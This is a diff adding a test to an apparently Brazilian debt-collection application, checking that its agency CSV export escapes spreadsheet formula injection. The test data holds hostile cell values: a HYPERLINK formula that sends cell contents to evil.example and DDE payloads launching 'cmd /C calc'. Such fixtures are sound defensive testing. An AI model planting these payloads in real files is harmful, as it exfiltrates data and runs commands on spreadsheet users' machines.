@@ -339,3 +339,44 @@ async def test_an_attendant_ends_a_pause_through_the_api(api, as_role, call_list
         "/api/v1/entries/999999/pause/end", json={"reason": "x"}, headers=attendant
     )
     assert missing.status_code == 404
+
+
+HOSTILE = {
+    "name": '=HYPERLINK("http://evil.example/?"&A1,"Clique")',
+    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "external_id": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+async def make_hostile(entries) -> None:
+    """The first debtor's record holds formulas, and two phones."""
+    from models import Customer, CustomerPhone
+
+    first = entries[0]
+    await Customer.filter(id=first.customer_id).update(**HOSTILE)
+    await CustomerPhone.create(customer_id=first.customer_id, number="+5519988887777")
+    await CustomerPhone.create(customer_id=first.customer_id, number="+551932321234")
+
+
+def assert_no_live_formula(rows: list[list[str]]) -> None:
+    first = rows[1]
+    assert first[1] == "'" + HOSTILE["external_id"]
+    assert first[2] == "'" + HOSTILE["name"]
+    assert first[5] == "'" + HOSTILE["city"]
+    # What Quita wrote stays usable: the phones in E.164, the amount in pt-BR.
+    assert sorted(first[4].split(" ")) == ["+551932321234", "+5519988887777"]
+    assert first[7] == "99,90"
+
+
+async def test_the_agency_file_writes_hostile_cells_as_text(api, as_role, call_list, agency):
+    await make_hostile(call_list["entries"])
+    ids = [e.id for e in call_list["entries"][:2]]
+    answer = await api.post(
+        "/api/v1/exports",
+        headers=await as_role(Role.SUPERVISOR),
+        json={"agency_id": agency.id, "entry_ids": ids},
+    )
+    assert answer.status_code == 200, answer.text
+    assert_no_live_formula(
+        list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))
+    )
